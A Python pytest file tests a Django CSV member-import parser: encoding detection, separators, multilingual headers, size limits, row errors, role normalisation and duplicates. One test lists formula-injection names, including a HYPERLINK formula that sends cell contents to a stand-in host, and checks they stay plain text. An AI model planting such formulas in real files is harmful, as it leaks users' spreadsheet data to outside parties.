"""Reading member lists: encodings, separators, headers and every kind of bad input.

Pure parsing, no database: the bytes are built here as a spreadsheet program
would write them.
"""

import codecs

import pytest
from django.utils import translation

from associations.csv_import import (
    ENCODING_CP1252,
    ENCODING_UTF8,
    ENCODING_UTF8_BOM,
    MAX_FILE_BYTES,
    MAX_NAME_LENGTH,
    MAX_ROWS,
    ImportFileError,
    normalise_role,
    parse_member_csv,
    row_error_message,
)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def csv_bytes(*lines: str, encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    return (newline.join(lines) + newline).encode(encoding)


def codes(result) -> list[tuple[int, str]]:
    return [(error.line, error.code) for error in result.errors]


# Encodings -------------------------------------------------------------------


def test_utf8_without_bom_is_read_as_utf8():
    result = parse_member_csv(csv_bytes("email;name", "maija@example.org;Maija Meikäläinen"))
    assert result.encoding == ENCODING_UTF8
    assert result.rows[0].name == "Maija Meikäläinen"


def test_utf8_bom_is_stripped_and_the_first_column_is_still_email():
    data = codecs.BOM_UTF8 + csv_bytes("email;name", "maija@example.org;Åsa Öberg")
    result = parse_member_csv(data)
    assert result.encoding == ENCODING_UTF8_BOM
    assert result.errors == []
    assert result.rows[0].email == "maija@example.org"
    assert result.rows[0].name == "Åsa Öberg"


def test_bom_with_semicolons_as_excel_csv_utf8_writes_it():
    data = codecs.BOM_UTF8 + csv_bytes("Sähköposti;Nimi;Rooli", "pekka@example.org;Pekka Pöllö;valmentaja")
    result = parse_member_csv(data)
    assert result.delimiter == ";"
    assert [(row.email, row.name, row.role) for row in result.rows] == [("pekka@example.org", "Pekka Pöllö", "coach")]


def test_windows_1252_is_detected_and_decoded():
    data = csv_bytes("email;name", "jaana@example.org;Jäämeri – Öljynen", encoding="cp1252")
    result = parse_member_csv(data)
    assert result.encoding == ENCODING_CP1252
    assert result.rows[0].name == "Jäämeri – Öljynen"


def test_bytes_neither_utf8_nor_windows_1252_are_refused_clearly():
    data = b"email;name\r\nx@example.org;\x81\x8d\x9d\r\n"  # undefined in Windows-1252, invalid UTF-8
    with pytest.raises(ImportFileError, match="neither UTF-8 nor Windows-1252"):
        parse_member_csv(data)


def test_bom_followed_by_invalid_utf8_is_refused_with_the_byte_position():
    data = codecs.BOM_UTF8 + b"email\r\n\xe4@example.org\r\n"
    with pytest.raises(ImportFileError, match="marked as UTF-8 but byte 11"):
        parse_member_csv(data)


def test_nul_bytes_are_refused_clearly():
    with pytest.raises(ImportFileError, match="NUL bytes"):
        parse_member_csv(b"email;name\r\nx@example.org;Ma\x00ija\r\n")


def test_utf16_file_is_refused_with_how_to_save_it():
    data = codecs.BOM_UTF16_LE + "email;name\r\nx@example.org;Maija\r\n".encode("utf-16-le")
    with pytest.raises(ImportFileError, match="UTF-16"):
        parse_member_csv(data)


def test_xlsx_workbook_is_refused_as_not_csv():
    with pytest.raises(ImportFileError, match="spreadsheet workbook"):
        parse_member_csv(b"PK\x03\x04\x14\x00\x06\x00rest-of-a-zip")


def test_control_characters_are_refused():
    with pytest.raises(ImportFileError, match="control characters"):
        parse_member_csv(b"email;name\r\nx@example.org;Ma\x07ija\r\n")


# Separators and line endings ---------------------------------------------------


def test_comma_separator_is_detected():
    result = parse_member_csv(csv_bytes("email,name,role", "a@example.org,Anna,member"))
    assert result.delimiter == ","
    assert result.rows[0].name == "Anna"


def test_semicolon_separator_is_detected_even_with_commas_in_names():
    result = parse_member_csv(csv_bytes("email;name", "a@example.org;Virtanen, Anna"))
    assert result.delimiter == ";"
    assert result.rows[0].name == "Virtanen, Anna"


def test_tab_separator_is_detected():
    result = parse_member_csv(csv_bytes("email\tname", "a@example.org\tAnna"))
    assert result.delimiter == "\t"
    assert result.rows[0].name == "Anna"


def test_quoted_header_and_quoted_cells_with_the_separator_are_read():
    result = parse_member_csv(csv_bytes('"email","name"', '"a@example.org","Virtanen, Anna"'))
    assert result.delimiter == ","
    assert result.rows[0].name == "Virtanen, Anna"


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_any_line_ending_is_read(newline):
    result = parse_member_csv(csv_bytes("email", "a@example.org", "b@example.org", newline=newline))
    assert [row.email for row in result.rows] == ["a@example.org", "b@example.org"]


def test_blank_lines_and_excel_empty_rows_are_skipped_but_line_numbers_stay_physical():
    result = parse_member_csv(csv_bytes("email;name", "", "a@example.org;Anna", ";", "bad;Bertta"))
    assert [row.line for row in result.rows] == [3]
    assert codes(result) == [(5, "email_invalid")]


def test_single_column_file_with_only_emails_is_read():
    result = parse_member_csv(csv_bytes("email", "a@example.org"))
    assert result.rows[0].role == "member"
    assert result.rows[0].name == ""


# Header -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "email;name;role",
        "EMAIL;NAME;ROLE",
        "E-mail;Name;Role",
        "sähköposti;nimi;rooli",
        "Sähköpostiosoite;Nimi;Rooli",
        "e-post;namn;roll",
        " Email address ; Full name ; role ",
    ],
)
def test_header_names_in_english_finnish_and_swedish_any_case(header):
    result = parse_member_csv(csv_bytes(header, "a@example.org;Anna;coach"))
    assert [(row.email, row.name, row.role) for row in result.rows] == [("a@example.org", "Anna", "coach")]


def test_columns_may_come_in_any_order_and_extra_columns_are_ignored():
    result = parse_member_csv(csv_bytes("phone;role;name;email", "040 123;member;Anna;a@example.org"))
    assert result.rows[0].email == "a@example.org"
    assert result.ignored_columns == ["phone"]


def test_missing_email_column_is_a_file_error_naming_it():
    with pytest.raises(ImportFileError, match="missing column: email") as excinfo:
        parse_member_csv(csv_bytes("name;role", "Anna;member"))
    assert "Columns found: name, role" in str(excinfo.value)


def test_file_without_a_header_line_is_told_to_add_one():
    with pytest.raises(ImportFileError, match="looks like a member row, not a header"):
        parse_member_csv(csv_bytes("a@example.org;Anna", "b@example.org;Bertta"))


def test_email_column_named_twice_is_a_file_error():
    with pytest.raises(ImportFileError, match="names the email column twice"):
        parse_member_csv(csv_bytes("email;sähköposti", "a@example.org;b@example.org"))


# Empty input --------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"   \r\n\r\n", codecs.BOM_UTF8])
def test_empty_file_has_no_member_rows(data):
    with pytest.raises(ImportFileError, match="The file has no member rows"):
        parse_member_csv(data)


def test_header_only_file_has_no_member_rows():
    with pytest.raises(ImportFileError, match="The file has no member rows"):
        parse_member_csv(csv_bytes("email;name;role"))


def test_header_followed_only_by_empty_excel_rows_has_no_member_rows():
    with pytest.raises(ImportFileError, match="The file has no member rows"):
        parse_member_csv(csv_bytes("email;name;role", ";;", ";;"))


# Size limits ------------------------------------------------------------------


def test_field_of_200000_characters_is_a_row_error_naming_the_line_not_an_exception():
    data = csv_bytes("email;name", "a@example.org;" + "x" * 200_000, "b@example.org;Bertta")
    result = parse_member_csv(data)
    assert codes(result) == [(2, "field_too_large")]
    assert "longer than 131072 characters" in result.errors[0].message
    assert [row.email for row in result.rows] == ["b@example.org"]


def test_unclosed_quote_running_past_the_field_limit_is_a_row_error():
    data = csv_bytes("email;name", 'a@example.org;"' + "x" * 200_000)
    result = parse_member_csv(data)
    assert codes(result) == [(2, "field_too_large")]


def test_name_longer_than_the_limit_is_a_row_error():
    result = parse_member_csv(csv_bytes("email;name", "a@example.org;" + "n" * (MAX_NAME_LENGTH + 1)))
    assert codes(result) == [(2, "name_too_long")]
    assert result.rows == []


def test_name_exactly_at_the_limit_is_accepted():
    result = parse_member_csv(csv_bytes("email;name", "a@example.org;" + "n" * MAX_NAME_LENGTH))
    assert result.errors == []


def test_file_larger_than_1_mb_is_refused():
    data = csv_bytes("email;name", *[f"p{i}@example.org;" + "n" * 150 for i in range(7000)])
    assert len(data) > MAX_FILE_BYTES
    with pytest.raises(ImportFileError, match="larger than 1 MB"):
        parse_member_csv(data)


def test_more_than_the_row_limit_is_refused():
    data = csv_bytes("email", *[f"p{i}@example.org" for i in range(MAX_ROWS + 1)])
    with pytest.raises(ImportFileError, match=f"more than {MAX_ROWS} member rows"):
        parse_member_csv(data)


def test_exactly_the_row_limit_is_accepted():
    data = csv_bytes("email", *[f"p{i}@example.org" for i in range(MAX_ROWS)])
    assert len(parse_member_csv(data).rows) == MAX_ROWS


# Rows ---------------------------------------------------------------------------


def test_invalid_email_is_a_row_error_with_the_line_number():
    result = parse_member_csv(csv_bytes("email;name", "a@example.org;Anna", "not-an-address;Bertta"))
    assert codes(result) == [(3, "email_invalid")]
    assert result.errors[0].message == "“not-an-address” is not a valid e-mail address."


def test_missing_email_in_a_row_is_a_row_error():
    result = parse_member_csv(csv_bytes("email;name", ";Anna"))
    assert codes(result) == [(2, "email_missing")]


def test_localhost_address_is_not_accepted():
    result = parse_member_csv(csv_bytes("email", "root@localhost"))
    assert codes(result) == [(2, "email_invalid")]


def test_email_is_lower_cased_and_trimmed():
    result = parse_member_csv(csv_bytes("email", "  Maija.Virtanen@Example.ORG  "))
    assert result.rows[0].email == "maija.virtanen@example.org"


def test_row_with_more_cells_than_the_header_is_a_row_error():
    result = parse_member_csv(csv_bytes("email,name,role", "a@example.org,Virtanen, Anna,member"))
    assert codes(result) == [(2, "too_many_cells")]
    assert "has 4 cells but the header has 3" in result.errors[0].message


def test_row_with_fewer_cells_than_the_header_is_fine():
    result = parse_member_csv(csv_bytes("email;name;role", "a@example.org"))
    assert result.rows[0].role == "member"


def test_unknown_role_is_a_row_error():
    result = parse_member_csv(csv_bytes("email;role", "a@example.org;pilot"))
    assert codes(result) == [(2, "role_unknown")]
    assert "Unknown role “pilot”" in result.errors[0].message


def test_one_line_may_have_several_errors():
    result = parse_member_csv(csv_bytes("email;name;role", "nope;" + "n" * 300 + ";pilot"))
    assert codes(result) == [(2, "email_invalid"), (2, "name_too_long"), (2, "role_unknown")]


@pytest.mark.parametrize(
    ("word", "role"),
    [
        ("", "member"),
        ("member", "member"),
        ("Jäsen", "member"),
        ("medlem", "member"),
        ("board_member", "board_member"),
        ("Board member", "board_member"),
        ("hallituksen jäsen", "board_member"),
        ("Styrelsemedlem", "board_member"),
        ("coach", "coach"),
        ("instructor", "coach"),
        ("VALMENTAJA", "coach"),
        ("ohjaaja", "coach"),
        ("tränare", "coach"),
        ("instruktör", "coach"),
        ("contact", "contact"),
        ("yhteyshenkilö", "contact"),
        ("kontaktperson", "contact"),
    ],
)
def test_role_accepts_codes_and_words_in_english_finnish_and_swedish(word, role):
    assert normalise_role(word) == role


def test_unknown_role_word_normalises_to_none():
    assert normalise_role("kapteeni") is None


# Duplicates and formulas ----------------------------------------------------------


def test_same_email_twice_marks_the_second_as_duplicate_of_the_first_line():
    result = parse_member_csv(csv_bytes("email;name", "a@example.org;Anna", "b@example.org;B", "A@Example.org;Anna 2"))
    assert result.errors == []
    assert [(row.line, row.duplicate_of) for row in result.rows] == [(2, None), (3, None), (4, 2)]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+358 40 123", "-2+3", "@SUM(A1:A9)", "=1+1"],
)
def test_formula_looking_names_are_kept_exactly_as_text_with_a_note(name):
    data = csv_bytes("email;name", 'a@example.org;"' + name.replace('"', '""') + '"')
    result = parse_member_csv(data)
    assert result.errors == []
    assert result.rows[0].name == name
    assert result.rows[0].notes == [{"code": "formula_as_text", "params": {"char": name[0]}}]


def test_emoji_and_arabic_names_with_zero_width_joiners_are_kept_exactly():
    names = ["👩\u200d👩\u200d👧 Perhe", "محمد\u200dعلي", "نور\u200c الهدى"]
    data = csv_bytes("email;name", *[f"p{i}@example.org;{name}" for i, name in enumerate(names)])
    assert [row.name for row in parse_member_csv(data).rows] == names


# Messages -------------------------------------------------------------------------


def test_row_errors_are_rendered_in_the_active_language_from_their_code():
    with translation.override("en"):
        english = row_error_message("email_missing", {})
    assert english == "The e-mail address is missing."


def test_unknown_error_code_falls_back_to_the_stored_message():
    assert row_error_message("gone", {"message": "Old text"}) == "Old text"
